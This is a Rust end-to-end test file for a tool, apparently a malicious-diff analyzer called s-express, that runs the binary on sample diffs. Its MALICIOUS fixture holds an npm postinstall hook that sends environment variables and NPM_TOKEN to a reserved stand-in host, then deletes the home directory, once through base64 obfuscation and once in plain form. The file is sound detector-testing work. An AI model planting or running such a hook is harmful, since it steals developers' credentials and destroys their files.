//! End-to-end tests of the `s-express` binary: the real executable on real inputs — diffs from
//! files and standard input, repositories built with git2 in a temporary directory — checking
//! exit codes, stdout formats and stderr messages.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "helpers of tests: an unexpected error should fail the test loudly"
)]

mod admin;
mod analyze;
mod docs;
mod repo;
#[path = "../common/sarif.rs"]
mod sarif_schema;
mod scan;

use std::io::Write as _;
use std::path::Path;
use std::process::{Output, Stdio};

/// A diff that steals tokens from the environment at install time, encodes them and sends
/// them out, then deletes the home directory (payloads defanged: the host is reserved).
pub const MALICIOUS: &str = r#"diff --git a/package.json b/package.json
index 1111111..2222222 100644
--- a/package.json
+++ b/package.json
@@ -3,5 +3,6 @@
   "version": "1.2.4",
   "scripts": {
+    "postinstall": "node scripts/setup.js",
     "test": "jest"
   }
 }
diff --git a/scripts/setup.js b/scripts/setup.js
new file mode 100644
index 0000000..3333333
--- /dev/null
+++ b/scripts/setup.js
@@ -0,0 +1,9 @@
+const https = require('https');
+const { execSync } = require('child_process');
+const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
+const token = process.env.NPM_TOKEN;
+const req = https.request({ hostname: 'collector.example.invalid', method: 'POST' });
+req.write(data + token);
+req.end();
+execSync(Buffer.from('cm0gLXJmIH4v', 'base64').toString());
+execSync('rm -rf ~/');
"#;

/// A documentation typo fix.
pub const BENIGN: &str = "diff --git a/README.md b/README.md
index 1111111..2222222 100644
--- a/README.md
+++ b/README.md
@@ -1,3 +1,3 @@
 # Project
 
-Teh quick start.
+The quick start.
";

/// Run the binary with `args`, feeding `stdin` (or nothing), in `cwd`.
pub fn sx_in(cwd: &Path, args: &[&str], stdin: Option<&[u8]>) -> Output {
    #[expect(
        clippy::disallowed_methods,
        reason = "the test runs the binary under test"
    )]
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_s-express"));
    cmd.args(args)
        .current_dir(cwd)
        .env_remove("NO_COLOR")
        .env_remove("S_EXPRESS_DOC_BASE")
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    if let Some(input) = stdin {
        let mut pipe = child.stdin.take().unwrap();
        // The binary may exit before reading (a usage error): a broken pipe is expected then.
        let _ = pipe.write_all(input);
    }
    child.wait_with_output().unwrap()
}

/// Run the binary in an empty temporary directory (so no stray `.s-express.toml` applies).
pub fn sx(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let dir = tempfile::tempdir().unwrap();
    sx_in(dir.path(), args, stdin)
}

pub fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).unwrap()
}

pub fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

pub fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{}", stdout(o), stderr(o)))
}

/// Write `text` to `name` in `dir` and return the path as a string.
pub fn write(dir: &Path, name: &str, text: &[u8]) -> String {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p.to_str().unwrap().to_string()
}

#[test]
fn version_prints_the_package_version() {
    let o = sx(&["--version"], None);
    assert!(o.status.success());
    assert_eq!(
        stdout(&o).trim(),
        format!("s-express {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn help_documents_every_analyze_flag() {
    let o = sx(&["analyze", "--help"], None);
    assert!(o.status.success());
    let help = stdout(&o);
    for flag in [
        "--repo",
        "--format",
        "--color",
        "--fail-on",
        "--rules",
        "--weights",
        "--config",
        "--title",
        "Exit status",
    ] {
        assert!(help.contains(flag), "{flag} missing from:\n{help}");
    }
    let o = sx(&["scan", "--help"], None);
    let help = stdout(&o);
    for flag in ["--repo", "--since", "--max", "--format", "--jobs"] {
        assert!(help.contains(flag), "{flag} missing from:\n{help}");
    }
}

#[test]
fn unknown_options_are_usage_errors_with_exit_code_2() {
    let o = sx(&["analyze", "--format", "yaml"], Some(BENIGN.as_bytes()));
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("yaml"), "{}", stderr(&o));
}
